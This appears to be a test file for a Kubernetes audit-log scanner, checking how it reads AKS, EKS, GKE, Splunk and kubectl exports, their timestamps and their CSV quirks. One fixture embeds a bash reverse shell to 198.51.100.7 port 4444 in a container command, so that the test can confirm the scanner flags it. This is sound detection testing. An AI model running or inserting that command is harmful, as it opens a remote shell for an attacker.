// The exports responders hold besides the kube-apiserver's own log: Log Analytics, S3 export tasks,
// Logs Insights, BigQuery sinks, Splunk and kubectl logs. Their shapes match the fixtures in
// fixtures/audit/canonical.ts field for field; here, what each format adds on top of the matrix in
// audit-formats.test.ts (which runs every format plain and gzipped).
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { looksLikeAuditLog } from '../src/entries/audit.js';
import { gkeCloudLogging } from '../src/audit/formats/gke-cloud-logging.js';
import { encode, FORMATS, scan } from './fixtures/audit/canonical.ts';
import { cronJobObject } from './fixtures/audit/canonical.ts';

const privileged = cronJobObject('node-debug', 'payments', { containers: [{ name: 'main', image: 'registry.example.com/acme/app:1.0', securityContext: { privileged: true } }] });

function kubeEvent(fields: Record<string, unknown> = {}) {
  return {
    kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'RequestResponse', auditID: 'x-1', stage: 'ResponseComplete',
    requestURI: '/apis/batch/v1/namespaces/payments/cronjobs', verb: 'create', user: { username: 'alice' }, sourceIPs: ['10.0.0.7'],
    userAgent: 'kubectl/v1.30.1', objectRef: { resource: 'cronjobs', namespace: 'payments', name: 'node-debug', apiGroup: 'batch', apiVersion: 'v1' },
    responseStatus: { metadata: {}, code: 201 }, requestObject: privileged, requestReceivedTimestamp: '2026-03-02T10:00:01.000000Z', stageTimestamp: '2026-03-02T10:00:01.100000Z',
    ...fields,
  };
}

describe('each export is named in the scan', () => {
  for (const [format, names] of Object.entries({
    'AKS Log Analytics AzureDiagnostics (az monitor log-analytics query)': ['aks-azure-diagnostics'],
    'AKS Log Analytics AzureDiagnostics (portal CSV)': ['csv', 'aks-azure-diagnostics'],
    'AKSAuditAdmin table (az monitor log-analytics query)': ['aks-audit-table'],
    'AKSAudit table (portal CSV)': ['csv', 'aks-audit-table'],
    'EKS export task to S3 (TIMESTAMP {event})': ['eks-s3-export', 'kube-apiserver'],
    'EKS CloudWatch Logs Insights (CSV)': ['csv', 'eks'],
    'GKE BigQuery sink rows (JSON lines)': ['gke-bigquery'],
    'Splunk JSON lines export (result._raw)': ['splunk'],
    'Splunk CSV export (_raw)': ['csv', 'splunk'],
    'Splunk HEC payloads (event)': ['splunk-hec'],
    'kubectl logs --timestamps of an audit sidecar': ['kubectl-logs', 'kube-apiserver'],
  })) {
    test(format, async () => {
      const text = FORMATS[format]();
      const { formats } = await scan(text);
      assert.deepEqual([...formats], names);
      assert.ok(looksLikeAuditLog(encode(text.slice(0, 64 * 1024))), 'the playground picks the audit scan for it');
    });
  }
});

describe('times as each export writes them', () => {
  // BigQuery writes `2026-03-02 10:00:01.000000 UTC`, the Azure portal `3/2/2026, 10:00:01.100 AM`: read
  // in local time they would move matches in and out of --since/--until on any machine not set to UTC.
  for (const [format, write] of Object.entries(FORMATS)) {
    test(`${format}: every match has an RFC 3339 UTC time`, async () => {
      const { matches } = await scan(write());
      assert.ok(matches.length > 0);
      for (const match of matches) assert.match(String(match.timestamp), /^2026-03-02T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$/, `${match.auditID}: ${match.timestamp}`);
    });
  }

  test('BigQuery and portal times are UTC instants, not local ones, and --since cuts between them', async () => {
    const row = (auditID: string, time: string) => ({
      TimeGenerated: time, Level: 'RequestResponse', AuditId: auditID, Stage: 'ResponseComplete', Verb: 'create', User: '{""username"":""alice""}',
      ObjectRef: '{""resource"":""cronjobs"",""namespace"":""payments"",""name"":""node-debug"",""apiGroup"":""batch""}', ResponseStatus: '{""code"":201}',
      RequestObject: JSON.stringify(privileged).replaceAll('"', '""'), StageReceivedTime: time,
    });
    const rows = [row('early', '3/2/2026, 9:59:59.900 AM'), row('late', '3/2/2026, 10:00:00.100 AM'), row('evening', '3/2/2026, 10:00:00.200 PM')];
    const header = Object.keys(rows[0]).map((name) => (name.endsWith('Time') || name === 'TimeGenerated' ? `${name} [UTC]` : name)).join(',');
    const text = [header, ...rows.map((r) => Object.values(r).map((value) => `"${value}"`).join(','))].join('\r\n') + '\r\n';
    const { matches } = await scan(text, { filter: { since: Date.parse('2026-03-02T10:00:00Z') } });
    assert.deepEqual(matches.map((match) => [match.auditID, match.timestamp]), [['late', '2026-03-02T10:00:00.100Z'], ['evening', '2026-03-02T22:00:00.200Z']]);

    const bigQuery = (auditID: string, timestamp: string) => JSON.stringify({
      protopayload_auditlog: { methodName: 'io.k8s.batch.v1.cronjobs.create', resourceName: 'batch/v1/namespaces/payments/cronjobs/node-debug', authenticationInfo: { principalEmail: 'mallory@example.com' }, requestJson: JSON.stringify({ '@type': 'batch.k8s.io/v1.CronJob', ...privileged }), status: { code: 0 } },
      timestamp, operation: { id: auditID }, labels: { authorization_k8s_io_decision: 'allow' },
    });
    const result = await scan([bigQuery('a', '2026-03-02 09:59:59.999999 UTC'), bigQuery('b', '2026-03-02 10:00:00.000001 UTC'), bigQuery('c', '1772445601.5')].join('\n') + '\n', { filter: { since: Date.parse('2026-03-02T10:00:00Z') } });
    assert.deepEqual(result.matches.map((match) => [match.auditID, match.timestamp]), [['b', '2026-03-02T10:00:00.000001Z'], ['c', '2026-03-02T10:00:01.500Z']]);
  });

  test('a time in no format the exports write is no time (outside every --since), never a local-time guess', async () => {
    const bigQuery = JSON.stringify({
      protopayload_auditlog: { methodName: 'io.k8s.batch.v1.cronjobs.create', resourceName: 'batch/v1/namespaces/payments/cronjobs/x', authenticationInfo: { principalEmail: 'm@example.com' }, requestJson: JSON.stringify(privileged) },
      timestamp: 'March 2, 2026 10:00', operation: { id: 'odd' },
    });
    assert.equal((await scan(bigQuery + '\n')).matches[0].timestamp, null);
    assert.equal((await scan(bigQuery + '\n', { filter: { since: 0 } })).matches.length, 0);
  });
});

describe('what each export adds to the bodies', () => {
  test('GKE: the @type Cloud Logging puts in a merge-patch body is not written into the object', async () => {
    const entry = (auditID: string, verb: string, request: unknown) => JSON.stringify({
      protoPayload: { methodName: `io.k8s.batch.v1.cronjobs.${verb}`, resourceName: 'batch/v1/namespaces/payments/cronjobs/report', authenticationInfo: { principalEmail: 'm@example.com' }, request, status: { code: 0 } },
      insertId: auditID, operation: { id: auditID, producer: 'k8s.io', first: true, last: true }, timestamp: '2026-03-02T10:00:01.000000Z',
    });
    const benign = cronJobObject('report', 'payments', { containers: [{ name: 'main', image: 'registry.example.com/acme/app:1.0' }] });
    const { matches, problems } = await scan([
      entry('c', 'create', { '@type': 'batch.k8s.io/v1.CronJob', ...benign }),
      entry('p', 'patch', { '@type': 'k8s.io/Patch', spec: { jobTemplate: { spec: { template: { spec: { hostNetwork: true } } } } } }),
    ].join('\n') + '\n');
    assert.deepEqual(problems, []);
    assert.deepEqual(matches.map((match) => [match.auditID, match.indicators.map((hit) => hit.indicator)]), [['p', ['host-network']]]);
    const read = gkeCloudLogging.read(JSON.parse(entry('p', 'patch', { '@type': 'k8s.io/Patch', spec: { suspend: true } })));
    assert.deepEqual({ ...(read?.requestObject as object) }, { spec: { suspend: true } });
  });

  test('Elastic: a denial survives the integration de-dotting annotation keys (authorization_k8s_io/decision)', async () => {
    const event = kubeEvent({ responseStatus: undefined, annotations: { 'authorization_k8s_io/decision': 'forbid' } });
    const { matches } = await scan(JSON.stringify({ '@timestamp': '2026-03-02T10:00:01.100Z', kubernetes: { audit: event } }) + '\n');
    assert.equal(matches[0].outcome, 'denied');
  });

  test('Splunk HEC: the event as JSON text is read like the event as an object; a HEC payload of something else is not an event', async () => {
    const hec = (event: unknown) => JSON.stringify({ time: 1772445601.1, host: 'ip-10-0-12-34', sourcetype: 'kube:apiserver:audit', event });
    const { matches, formats } = await scan(`${hec(JSON.stringify(kubeEvent()))}\n${hec(kubeEvent({ auditID: 'x-2' }))}\n`);
    assert.deepEqual(matches.map((match) => match.auditID), ['x-1', 'x-2']);
    assert.deepEqual([...formats], ['splunk-hec']);
    const { problems } = await scan(`${hec({ message: 'jobs created', level: 'info' })}\n`);
    assert.match(problems[0].message, /^not an audit log/);
  });
});

describe('CSV as the exports write it', () => {
  test('a row whose quoted fields hold newlines, commas and doubled quotes: read whole, line numbers stay true', async () => {
    const event = kubeEvent({ requestObject: cronJobObject('node-debug', 'payments', { containers: [{ name: 'main', image: 'busybox', command: ['sh', '-c', 'echo "a, b"\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1'] }] }) });
    const pretty = JSON.stringify(event, null, 2);
    const text = `@timestamp,@message\r\n"2026-03-02 10:00:00.000","${JSON.stringify(kubeEvent({ auditID: 'x-0', verb: 'get' })).replaceAll('"', '""')}"\r\n"2026-03-02 10:00:01.000","${pretty.replaceAll('"', '""')}"\r\n`;
    const { matches, problems } = await scan(text, {}, [7, 13, 1]);
    assert.deepEqual(problems, []);
    assert.equal(matches.length, 1);
    assert.equal(matches[0].line, 3);
    assert.ok(matches[0].indicators.some((hit) => hit.indicator === 'shell-escape'));
  });

  test('a field longer than the chunks it arrives in (a 3 MB request body) is read', async () => {
    const event = kubeEvent({ requestObject: { ...privileged, metadata: { name: 'node-debug', namespace: 'payments', annotations: { padding: 'x'.repeat(3 << 20) } } } });
    const text = `"_time","_raw"\n"2026-03-02T10:00:01.000+00:00","${JSON.stringify(event).replaceAll('"', '""')}"\n`;
    const { matches, problems } = await scan(text, {}, [65536]);
    assert.deepEqual(problems, []);
    assert.equal(matches.length, 1);
  });

  test('a row over the record cap is malformed at its line and the rows after it are read', async () => {
    const big = JSON.stringify(kubeEvent({ auditID: 'big', requestObject: { padding: 'jobs'.repeat(1 << 16) } })).replaceAll('"', '""');
    const text = `"_time","_raw"\n"t","${big}"\n"t","${JSON.stringify(kubeEvent()).replaceAll('"', '""')}"\n`;
    const { matches, problems, summary } = await scan(text, { maxRecordBytes: 64 * 1024 });
    assert.equal(summary.malformed, 1);
    assert.equal(problems[0].line, 2);
    assert.deepEqual(matches.map((match) => match.auditID), ['x-1']);
  });

  test('a row with fewer fields than the header is malformed with its line; a cut-off last row too', async () => {
    const row = `"t","${JSON.stringify(kubeEvent()).replaceAll('"', '""')}"`;
    const { problems, matches } = await scan(`"_time","_raw"\n"jobs only"\n${row}\n"t","{""verb"":""create"", ""cut`);
    assert.deepEqual(problems.map((problem) => problem.line), [2, 4]);
    assert.equal(matches.length, 1);
  });

  test('a CSV whose columns hold no audit events is not an audit log', async () => {
    const { problems } = await scan('timestamp,verb,resource\n2026-01-01,create,jobs\n');
    assert.equal(problems.length, 1);
    assert.match(problems[0].message, /^not an audit log/);
  });
});

describe('what each cloud adds', () => {
  test('AKSAudit: a body the pipeline dropped (skipped-too-big-size-object) is uninspectable with that reason; the Entra object id is the cloud identity', async () => {
    const row = {
      TimeGenerated: '2026-03-02T10:00:01.1Z', Level: 'RequestResponse', AuditId: 'x-1', Stage: 'ResponseComplete', RequestUri: '/apis/batch/v1/namespaces/payments/cronjobs',
      Verb: 'create', User: { username: 'alice@contoso.com', extra: { oid: ['7c1e5d2a-3b4f-4a6e-9d8c-1f2e3a4b5c6d'] } }, SourceIps: ['10.0.0.7'], UserAgent: 'kubectl/v1.30.1',
      ObjectRef: { resource: 'cronjobs', namespace: 'payments', name: 'node-debug', apiGroup: 'batch' }, ResponseStatus: { code: 201 },
      RequestObject: 'skipped-too-big-size-object', ResponseObject: 'skipped-too-big-size-object', Type: 'AKSAuditAdmin',
    };
    const withBody = { ...row, AuditId: 'x-2', RequestObject: privileged, ResponseObject: '' };
    const { uninspectable, matches } = await scan(JSON.stringify([row, withBody]));
    assert.deepEqual(uninspectable.map((write) => [write.auditID, write.reason]), [['x-1', 'body dropped as too big']]);
    assert.deepEqual(matches.map((match) => [match.auditID, match.cloudIdentity?.provider, match.cloudIdentity?.principal]), [['x-2', 'azure', '7c1e5d2a-3b4f-4a6e-9d8c-1f2e3a4b5c6d']]);
  });

  test('EKS export to S3: user.extra gives the IAM role ARN, session name and access key id', async () => {
    const user = { username: 'arn:aws:sts::111122223333:assumed-role/Admin/mallory', extra: { arn: ['arn:aws:iam::111122223333:role/Admin'], sessionName: ['mallory'], accessKeyId: ['ASIAEXAMPLE123'] } };
    const { matches } = await scan(`2026-03-02T10:00:01.104Z ${JSON.stringify(kubeEvent({ user }))}\n`);
    assert.deepEqual(matches[0].cloudIdentity, { provider: 'aws', principal: 'arn:aws:iam::111122223333:role/Admin', sessionName: 'mallory', accessKeyId: 'ASIAEXAMPLE123' });
  });

  test('GKE BigQuery rows: the principal email is the user and the cloud identity', async () => {
    const { matches } = await scan(FORMATS['GKE BigQuery sink rows (JSON lines)']());
    assert.ok(matches.length > 0);
    for (const match of matches) assert.equal(match.cloudIdentity?.principal, 'mallory@example.com');
  });

  test('records without apiVersion, kind or auditID that are clearly events (EKS rule tests write them so) are read', async () => {
    const { apiVersion: _a, kind: _k, auditID: _i, ...bare } = kubeEvent();
    const { matches, problems } = await scan(JSON.stringify(bare) + '\n');
    assert.deepEqual(problems, []);
    assert.equal(matches.length, 1);
  });

  test('a look-alike without a user or an audit ID (a verb and an object of some other tool) is not an event', async () => {
    const { problems } = await scan(JSON.stringify({ verb: 'create', objectRef: { resource: 'cronjobs' }, requestObject: privileged }) + '\n');
    assert.match(problems[0].message, /^not an audit log/);
  });

  test('kubectl logs lines whose timestamp is followed by something else are malformed lines, the rest read', async () => {
    const event = JSON.stringify(kubeEvent());
    const { matches, problems } = await scan(`2026-03-02T10:00:01.123456789Z ${event}\n2026-03-02T10:00:02.1Z unable to open audit log: jobs\n`);
    assert.equal(matches.length, 1);
    assert.deepEqual(problems.map((problem) => problem.line), [2]);
  });
});
